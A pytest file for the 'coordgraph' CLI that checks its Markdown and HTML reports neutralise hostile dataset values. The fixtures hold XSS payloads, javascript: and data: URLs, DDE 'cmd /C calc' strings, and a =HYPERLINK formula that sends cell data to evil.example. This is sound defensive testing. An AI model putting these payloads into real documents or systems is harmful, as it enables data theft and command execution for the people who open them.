"""What is inside the outputs people open: nothing a user typed runs or links.

The output-safety property for file contents (tests/cli/test_outputs.py holds it for
which files are touched): for a dataset whose every name is hostile (formulas, HTML tags,
``javascript:`` links), no Markdown or HTML output carries a live tag or a link that is not
http(s), rendered by two Markdown libraries, and text escaped for Markdown reads back as
the same text (a property test).
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from coordgraph.cli import cli
from coordgraph.io.safe import markdown_link, markdown_text, web_url

#: a valid dataset whose names, titles and URLs are attacks (the cases of #28)
EVIL = """\
dataset:
  name: evil
  title: "=HYPERLINK(\\"http://evil.example/agency?d=\\"&A2,\\"x\\") <script>alert(0)</script>"
  description: "[click](javascript:alert(1)) <img src=x onerror=alert(2)> | *b* `c`"
sources:
- id: s1
  title: "<b>bold</b> [x](javascript:alert(3)) ![i](javascript:alert(4))"
  url: "javascript:alert(5)"
- id: s2
  title: "@SUM(1+1)*cmd|' /C calc'!A0"
  url: "https://ok.example/a?b=1&c=2"
- id: s3
  title: "=3+3"
  url: "JavaScript:alert(6)"
- id: s4
  title: "<javascript:alert(7)> [r]: javascript:alert(8)"
  url: "data:text/html,<script>alert(9)</script>"
areas:
- id: cri-san-jose
  name: "<script>alert(10)</script>"
  country: CRI
agencies:
- id: min-a
  name: "=cmd|' /C calc'!A0"
  country: ALB
  type: ministry
  sources: [s1]
- id: min-b
  name: "<a href='javascript:alert(11)'>Ministry B</a>"
  country: GRC
  type: ministry
  sources: [s2]
networks:
- id: net
  name: "<i>Net</i> [n](javascript:alert(12)) -2+3"
  members:
  - ALB
  - country: GRC
    joined: '2001'
  requires_focal_point: true
  sources: [s1, s4]
agreements:
- id: alb-grc
  name: "+cmd|' /C calc'!A0"
  type: bilateral
  parties:
  - ALB
  - GRC
  signed: 2006-02
  scope: children
  sources:
  - s1:10-12
mechanisms:
- id: m1
  name: "\\tTAB <u>m1</u> <javascript:alert(13)>"
  type: coordinating_body
  level: national
  country: ALB
  scope:
  - child_trafficking
  leads:
  - min-a
  sources: [s3]
action_plans:
- id: npa
  name: "'=already quoted"
  country: ALB
  scope:
  - child_trafficking
  adopted: '2005'
  sources: [s1]
routes:
- id: r1
  origin: ALB
  destination: GRC
  victims:
  - girls
  name: "+cmd|' /C calc'!A0"
  sources: [s2]
- id: r2
  origin: GRC
  destination: ALB
  victims:
  - boys
  name: "\\rCR <script>x</script>"
  sources: [s1]
"""

WHAT_IF = """\
agreements:
- id: alb-grc-2
  name: "<script>alert(14)</script> [w](javascript:alert(15))"
  type: bilateral
  parties: [ALB, GRC]
  signed: 2007
  in_force: 2007
  scope: children
"""


@pytest.fixture
def evil(tmp_path: Path) -> Path:
    path = tmp_path / "evil.yaml"
    path.write_text(EVIL, encoding="utf-8")
    return path


def run(*args: str) -> str:
    r = CliRunner().invoke(cli, list(args))
    assert r.exit_code == 0, r.output
    return r.stdout


#: tags coordgraph's own Markdown and HTML templates make; anything else came from data
_OURS = {
    "a", "b", "body", "br", "code", "col", "colgroup", "div", "em", "h1", "h2", "h3", "h4", "head", "hr",
    "html", "img", "li", "meta", "ol", "p", "section", "span", "strong", "style", "sup",
    "table", "tbody", "td", "th", "thead", "title", "tr", "ul",
}  # fmt: skip


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _OURS:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.bad.append(f"<{tag} {name}>")
            ours = value.startswith(("#", "https://", "http://")) or value == "explorer.html"
            if name == "href" and not ours:
                self.bad.append(f"<{tag} href={value!r}>")
            if name == "src" and not (value.endswith(".png") or value.startswith("data:image/")):
                self.bad.append(f"<{tag} src={value!r}>")


def _live_markup(rendered: str) -> list[str]:
    parser = _Tags()
    parser.feed(rendered)
    return parser.bad


def _renderings(text: str) -> dict[str, str]:
    out = {}
    markdown_it = pytest.importorskip("markdown_it")
    out["markdown-it"] = markdown_it.MarkdownIt("commonmark").enable("table").render(text)
    markdown = pytest.importorskip("markdown")
    out["python-markdown"] = markdown.markdown(text, extensions=["tables"])
    return out


def _markdown_outputs(evil: Path, tmp_path: Path) -> dict[str, str]:
    what_if = tmp_path / "what-if.yaml"
    what_if.write_text(WHAT_IF, encoding="utf-8")
    data = str(evil)
    run("report", data, "--as-of", "2010", "-o", str(tmp_path / "rep"))
    return {
        "report.md": (tmp_path / "rep" / "report.md").read_text(encoding="utf-8"),
        "gaps": run("gaps", "all", data, "--as-of", "2010", "--format", "markdown"),
        "coverage": run("coverage", data, "--network", "net", "--format", "markdown"),
        "plan": run("plan", data, "--as-of", "2010", "--format", "markdown"),
        "plan --what-if": run(
            "plan", data, "--what-if", str(what_if), "--as-of", "2010", "--format", "markdown"
        ),
    }


def test_no_markdown_output_has_a_live_tag_or_link_from_data(evil: Path, tmp_path: Path) -> None:
    outputs = _markdown_outputs(evil, tmp_path)
    for name, text in outputs.items():
        # the text itself: no raw tag, no link or autolink to anything but http(s)
        assert "<script" not in text and "<i>" not in text and "<u>" not in text, name
        assert not re.search(r"(?<!\\)\]\(javascript", text), name
        assert "<javascript" not in text.lower(), name
        for library, rendered in _renderings(text).items():
            assert _live_markup(rendered) == [], (name, library)
    # the http(s) source still becomes a link; the others are shown as text
    report = outputs["report.md"]
    assert "<https://ok.example/a?b=1&c=2>" in report
    assert "javascript:alert(5)" in report and "<javascript:alert(5)>" not in report
    # names read as they are written once rendered
    rendered = _renderings(report)["markdown-it"]
    assert "&lt;i&gt;Net&lt;/i&gt; [n](javascript:alert(12)) -2+3" in rendered


def test_the_html_report_links_only_to_http_and_its_own_anchors(evil: Path, tmp_path: Path) -> None:
    run("report", str(evil), "--as-of", "2010", "-o", str(tmp_path / "rep"))
    page = (tmp_path / "rep" / "report.html").read_text(encoding="utf-8")
    assert _live_markup(page) == []
    assert "href='https://ok.example/a?b=1&amp;c=2'" in page
    assert "javascript:" not in page.lower().replace("javascript:alert(", "")


_PIECES = st.sampled_from(
    [
        *"ab <>&\\`*_[]()!#|~'\"=:/-+.1\t\n",
        *("javascript:", "http://x", "&amp;", "&#60;", "é", "\U0001f600", "\u202e"),
        *("<script>", "](javascript:alert(1))", "<b>"),
    ]
)


@settings(max_examples=400, deadline=None)
@given(text=st.lists(_PIECES, max_size=24).map("".join))
def test_markdown_text_reads_back_as_the_same_text_and_is_never_markup(text: str) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    rendered = markdown_it.MarkdownIt("commonmark").renderInline(markdown_text(text))
    assert "<" not in rendered.replace("&lt;", "")  # no tag of any kind
    assert html.unescape(rendered) == " ".join(text.splitlines())


@pytest.mark.parametrize(
    ("url", "link"),
    [
        ("https://www.unodc.org/a?b=1&c=2", True),
        ("HTTP://EXAMPLE.ORG", True),
        ("javascript:alert(1)", False),
        ("JavaScript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("data:text/html,<script>", False),
        ("file:///etc/passwd", False),
        ("https://x.org/<script>", False),
        ("https://x.org/a b", False),
        ("https://x.org/a>b", False),
        ("//evil.example", False),
        ("vbscript:msgbox", False),
        ("", False),
    ],
)
def test_only_http_urls_become_links(url: str, link: bool) -> None:
    assert (web_url(url) is not None) is link
    out = markdown_link(url)
    assert out.startswith("<") is link
    if not link:
        rendered = pytest.importorskip("markdown_it").MarkdownIt("commonmark").render(out)
        assert "<a " not in rendered
